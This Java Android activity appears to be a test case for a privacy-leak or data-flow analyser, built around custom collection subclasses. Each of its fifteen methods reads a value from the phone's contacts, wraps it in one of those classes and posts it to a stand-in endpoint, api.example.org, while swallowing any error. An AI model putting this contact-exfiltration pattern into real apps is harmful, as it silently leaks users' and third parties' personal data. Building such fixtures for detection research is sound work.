// Collections of the app's own that hold the data, by what each of them extends.
package cases.flow_own_collections;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import com.google.gson.Gson;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.AbstractCollection;
import java.util.AbstractList;
import java.util.AbstractMap;
import java.util.AbstractSet;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Collection;
import java.util.Collections;
import java.util.Comparator;
import java.util.Deque;
import java.util.HashMap;
import java.util.Iterator;
import java.util.LinkedList;
import java.util.List;
import java.util.Map;
import java.util.NavigableSet;
import java.util.Queue;
import java.util.RandomAccess;
import java.util.Set;
import java.util.SortedMap;
import java.util.SortedSet;
import java.util.concurrent.ConcurrentMap;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            list();
            statedList();
            randomAccess();
            collection();
            set();
            queue();
            map();
            sortedMap();
            navigableSet();
            concurrentMap();
            arrayList();
            hashMap();
            linkedList();
            arrayDeque();
            deque();
        } catch (Exception e) {
            Log.w("cases", "later");
        }
    }

    private void list() throws Exception {
        Names object = new Names(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        send(new Gson().toJson(object));
    }

    private void statedList() throws Exception {
        Stated object = new Stated(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        send(new Gson().toJson(object));
    }

    private void randomAccess() throws Exception {
        Fixed object = new Fixed(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        send(new Gson().toJson(object));
    }

    private void collection() throws Exception {
        Group object = new Group(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        send(new Gson().toJson(object));
    }

    private void set() throws Exception {
        Family object = new Family(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        send(new Gson().toJson(object));
    }

    private void queue() throws Exception {
        Waiting object = new Waiting(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        send(new Gson().toJson(object));
    }

    private void map() throws Exception {
        Card object = new Card(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        send(new Gson().toJson(object));
    }

    private void sortedMap() throws Exception {
        Index object = new Index(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        send(new Gson().toJson(object));
    }

    private void navigableSet() throws Exception {
        Letters object = new Letters(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        send(new Gson().toJson(object));
    }

    private void concurrentMap() throws Exception {
        Shared object = new Shared(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        send(new Gson().toJson(object));
    }

    private void arrayList() throws Exception {
        Titled object = new Titled(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        write(object);
    }

    private void hashMap() throws Exception {
        Labelled object = new Labelled(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        write(object);
    }

    private void linkedList() throws Exception {
        Chained object = new Chained(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        write(object);
    }

    private void arrayDeque() throws Exception {
        Recent object = new Recent(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        write(object);
    }

    private void deque() throws Exception {
        Calls object = new Calls(first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)));
        write(object);
    }

    static String first(Cursor rows) {
        rows.moveToFirst();
        return rows.getString(0);
    }

    static void send(String text) throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.org/v1/contacts").openConnection();
        connection.setDoOutput(true);
        connection.getOutputStream().write(text.getBytes());
        connection.getInputStream().close();
    }

    static void write(Serializable object) throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.org/v1/contacts").openConnection();
        ObjectOutputStream out = new ObjectOutputStream(connection.getOutputStream());
        out.writeObject(object);
        out.close();
    }

    static final class Names extends AbstractList<String> {
        private final String name;

        Names(String name) {
            this.name = name;
        }

        @Override
        public String get(int index) {
            return name;
        }

        @Override
        public int size() {
            return 1;
        }
    }

    static final class Stated extends AbstractList<String> implements List<String> {
        private final String name;

        Stated(String name) {
            this.name = name;
        }

        @Override
        public String get(int index) {
            return name;
        }

        @Override
        public int size() {
            return 1;
        }
    }

    static final class Fixed extends AbstractList<String> implements RandomAccess {
        private final String name;

        Fixed(String name) {
            this.name = name;
        }

        @Override
        public String get(int index) {
            return name;
        }

        @Override
        public int size() {
            return 1;
        }
    }

    static final class Group extends AbstractCollection<String> implements Collection<String> {
        private final String name;

        Group(String name) {
            this.name = name;
        }

        @Override
        public Iterator<String> iterator() {
            return Collections.singleton(name).iterator();
        }

        @Override
        public int size() {
            return 1;
        }
    }

    static final class Family extends AbstractSet<String> implements Set<String> {
        private final String name;

        Family(String name) {
            this.name = name;
        }

        @Override
        public Iterator<String> iterator() {
            return Collections.singleton(name).iterator();
        }

        @Override
        public int size() {
            return 1;
        }
    }

    static final class Waiting extends AbstractCollection<String> implements Queue<String> {
        private final String name;

        Waiting(String name) {
            this.name = name;
        }

        @Override
        public Iterator<String> iterator() {
            return Collections.singleton(name).iterator();
        }

        @Override
        public int size() {
            return 1;
        }

        @Override
        public boolean offer(String other) {
            throw new UnsupportedOperationException();
        }

        @Override
        public String remove() {
            throw new UnsupportedOperationException();
        }

        @Override
        public String poll() {
            throw new UnsupportedOperationException();
        }

        @Override
        public String element() {
            throw new UnsupportedOperationException();
        }

        @Override
        public String peek() {
            throw new UnsupportedOperationException();
        }
    }

    static final class Card extends AbstractMap<String, String> implements Map<String, String> {
        private final String name;

        Card(String name) {
            this.name = name;
        }

        @Override
        public Set<Map.Entry<String, String>> entrySet() {
            return Collections.singletonMap("name", name).entrySet();
        }
    }

    static final class Index extends AbstractMap<String, String> implements SortedMap<String, String> {
        private final String name;

        Index(String name) {
            this.name = name;
        }

        @Override
        public Set<Map.Entry<String, String>> entrySet() {
            return Collections.singletonMap("name", name).entrySet();
        }

        @Override
        public Comparator<? super String> comparator() {
            return null;
        }

        @Override
        public SortedMap<String, String> subMap(String from, String to) {
            throw new UnsupportedOperationException();
        }

        @Override
        public SortedMap<String, String> headMap(String to) {
            throw new UnsupportedOperationException();
        }

        @Override
        public SortedMap<String, String> tailMap(String from) {
            throw new UnsupportedOperationException();
        }

        @Override
        public String firstKey() {
            throw new UnsupportedOperationException();
        }

        @Override
        public String lastKey() {
            throw new UnsupportedOperationException();
        }
    }

    static final class Letters extends AbstractSet<String> implements NavigableSet<String> {
        private final String name;

        Letters(String name) {
            this.name = name;
        }

        @Override
        public Iterator<String> iterator() {
            return Collections.singleton(name).iterator();
        }

        @Override
        public int size() {
            return 1;
        }

        @Override
        public Comparator<? super String> comparator() {
            return null;
        }

        @Override
        public String lower(String one) {
            throw new UnsupportedOperationException();
        }

        @Override
        public String floor(String one) {
            throw new UnsupportedOperationException();
        }

        @Override
        public String ceiling(String one) {
            throw new UnsupportedOperationException();
        }

        @Override
        public String higher(String one) {
            throw new UnsupportedOperationException();
        }

        @Override
        public String pollFirst() {
            throw new UnsupportedOperationException();
        }

        @Override
        public String pollLast() {
            throw new UnsupportedOperationException();
        }

        @Override
        public NavigableSet<String> descendingSet() {
            throw new UnsupportedOperationException();
        }

        @Override
        public Iterator<String> descendingIterator() {
            throw new UnsupportedOperationException();
        }

        @Override
        public NavigableSet<String> subSet(String from, boolean first, String to, boolean last) {
            throw new UnsupportedOperationException();
        }

        @Override
        public NavigableSet<String> headSet(String to, boolean last) {
            throw new UnsupportedOperationException();
        }

        @Override
        public NavigableSet<String> tailSet(String from, boolean first) {
            throw new UnsupportedOperationException();
        }

        @Override
        public SortedSet<String> subSet(String from, String to) {
            throw new UnsupportedOperationException();
        }

        @Override
        public SortedSet<String> headSet(String to) {
            throw new UnsupportedOperationException();
        }

        @Override
        public SortedSet<String> tailSet(String from) {
            throw new UnsupportedOperationException();
        }

        @Override
        public String first() {
            throw new UnsupportedOperationException();
        }

        @Override
        public String last() {
            throw new UnsupportedOperationException();
        }
    }

    static final class Shared extends AbstractMap<String, String> implements ConcurrentMap<String, String> {
        private final String name;

        Shared(String name) {
            this.name = name;
        }

        @Override
        public Set<Map.Entry<String, String>> entrySet() {
            return Collections.singletonMap("name", name).entrySet();
        }

        @Override
        public String putIfAbsent(String key, String other) {
            throw new UnsupportedOperationException();
        }

        @Override
        public boolean remove(Object key, Object other) {
            throw new UnsupportedOperationException();
        }

        @Override
        public boolean replace(String key, String before, String other) {
            throw new UnsupportedOperationException();
        }

        @Override
        public String replace(String key, String other) {
            throw new UnsupportedOperationException();
        }
    }

    static final class Titled extends ArrayList<String> {
        private final String name;

        Titled(String name) {
            this.name = name;
        }
    }

    static final class Labelled extends HashMap<String, String> {
        private final String name;

        Labelled(String name) {
            this.name = name;
        }
    }

    static final class Chained extends LinkedList<String> {
        private final String name;

        Chained(String name) {
            this.name = name;
        }
    }

    static final class Recent extends ArrayDeque<String> {
        private final String name;

        Recent(String name) {
            this.name = name;
        }
    }

    static final class Calls extends ArrayDeque<String> implements Deque<String> {
        private final String name;

        Calls(String name) {
            this.name = name;
        }
    }
}
